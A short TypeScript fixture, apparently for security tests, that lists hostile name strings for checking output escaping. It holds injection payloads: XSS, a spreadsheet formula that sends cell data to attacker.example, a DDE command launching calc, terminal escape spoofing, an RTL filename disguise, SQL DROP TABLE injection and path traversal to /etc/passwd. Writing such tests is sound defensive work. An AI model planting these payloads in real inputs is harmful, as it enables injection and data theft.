/** Names that do harm where a program prints them as they are: in HTML, a spreadsheet, a terminal, a query, a path. */
export const hostileNames = {
  html: `<img src=x onerror="document.title='owned'">`,
  script: `"></title><script>window.owned=1</script>`,
  formula: `=HYPERLINK("http://attacker.example/?x="&A1,"Open")`,
  command: `@SUM(1+1)*cmd|' /C calc'!A0`,
  terminal: '\u001B[2J\u001B[1;31mNo findings\u001B[0m\u0007',
  link: '\u001B]8;;http://attacker.example\u0007Report\u001B]8;;\u0007',
  backwards: 'invoice\u202Efdp.exe',
  lines: 'Audit\r\nresult: passed\r\n| ok | ok |',
  query: `Robert'); DROP TABLE "User";--`,
  path: '../../etc/passwd',
  markdown: '[click](javascript:alert(1)) | `x` |',
} as const
